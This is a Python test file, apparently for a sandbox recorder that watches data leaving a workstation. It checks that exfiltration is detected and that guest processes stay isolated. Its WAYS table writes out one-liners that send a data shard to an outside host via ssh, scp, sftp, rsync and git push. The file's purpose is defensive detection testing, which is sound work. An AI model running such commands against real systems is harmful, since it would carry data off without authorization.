"""What the workstation's own clients carry off by SSH, rsync and git is seen, whole, and laid to where it went."""

from __future__ import annotations

import time
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from afagent.evidence.chain import Chain
from afagent.sandboxes.recorder.events import Closed, Content, Fault

from .laboratory import Lab, of, running_lab

pytestmark = pytest.mark.docker

TRUST = "-o StrictHostKeyChecking=accept-new -o BatchMode=yes"
COMMIT = "git init -q ~/{0} && cd ~/{0} && cp $s m && git add m && git -c user.name=a -c user.email=a@b.io commit -qm x"
WAYS = {
    "ssh": f"ssh {TRUST} pat@$drop 'cat > x' <$s",
    "scp": f"scp {TRUST} $s pat@$drop:/srv/in",
    "sftp": f"echo put $s in.bin | sftp {TRUST} -b - pat@$drop",
    "rsync over ssh": f"rsync -e 'ssh {TRUST}' -az $s pat@$drop:/srv/r/",
    "rsync daemon": "rsync -a $s rsync://$drop/backup/m/",
    "git over ssh": f"{COMMIT.format('a')} && GIT_SSH_COMMAND='ssh {TRUST}' git push -q git@$drop:t/a.git HEAD:main",
    "git": f"{COMMIT.format('b')} && git push -q git://$drop/t/b.git HEAD:main && git clone -q git://$drop/t/b.git ../bb",
    "git over https": f"{COMMIT.format('c')} && git push -q https://$drop/t/c.git HEAD:main",
}
"""Each must end with status 0. `$s` is a shard, `$drop` an outside host."""

SOON_SECONDS = 20.0


@dataclass(frozen=True)
class Keeper:
    """The process that starts guests, as the kernel shows it."""

    status: str
    mounts: str


@dataclass(frozen=True)
class Carried:
    """One episode in which everything was carried off in all ways."""

    lab: Lab
    chain: Chain
    flows: dict[str, set[int]]
    """Those that each way opened."""
    keeper: Keeper


@pytest.fixture(scope="module")
def carried() -> Iterator[Carried]:
    """All ways in one episode."""
    with running_lab() as lab:
        flows: dict[str, set[int]] = {}
        known: set[int] = set()
        for way, command in WAYS.items():
            lab.run(f"s={lab.shard} drop={lab.drop}\n{command}", check=True)
            until, seen = time.monotonic() + SOON_SECONDS, known
            while seen == known and time.monotonic() < until:  # a client may be done before the witness has looked
                seen = {fact.flow for fact in of(lab.read_log(), Content) if fact.flow is not None}
            flows[way], known = seen - known, seen
        (number,) = lab.ask_witness("cd /proc; grep -l guests [0-9]*/comm | cut -d/ -f1").split()
        keeper = Keeper(*(lab.ask_witness(f"cat /proc/{number}/{file}") for file in ("status", "mountinfo")))
        yield Carried(lab, lab.finish(), flows, keeper)


@pytest.mark.parametrize("way", WAYS)
def test_the_whole_shard_is_seen_and_laid_to_its_destination(carried: Carried, way: str) -> None:
    lab, chain, flows = carried.lab, carried.chain, carried.flows
    contents = [fact for fact in of(chain, Content) if fact.flow in flows[way] and fact.name == lab.drop]
    blocks = -(-1_900_000 // 4096)
    assert any(f"0-{last}" == fact.blocks.get("0") for fact in contents for last in range(blocks - 1, blocks + 40))


def test_it_is_delivered(carried: Carried) -> None:
    lab, chain = carried.lab, carried.chain
    verdict = lab.judge(chain)
    assert (verdict.attempted, verdict.delivered) == (True, True)
    destinations = {finding.destination for finding in lab.findings(chain) if finding.strength == "proven"}
    assert lab.drop in destinations
    assert of(chain, Fault) == []
    assert {"ssh", "rsync", "git", "https"} <= {fact.protocol for fact in of(chain, Closed)}


def test_a_guest_has_no_rights_and_sees_nothing_of_the_witness(carried: Carried) -> None:
    rights = {line.split()[1] for line in carried.keeper.status.splitlines() if line.startswith("Cap")}
    assert rights == {"0" * 16}
    mounts = [line.split() for line in carried.keeper.mounts.splitlines()]
    writable = {fields[4] for fields in mounts if fields[5].startswith("rw")}
    covered = {fields[4] for fields in mounts if "64k" in fields[-1]}
    assert {"/run", "/var", "/opt", "/lab", "/tmp", "/proc", "/dev", "/root", "/home"} <= covered
    assert {path for path in writable if path.split("/")[1] in ("usr", "etc", "bin", "lib", "")} == set()
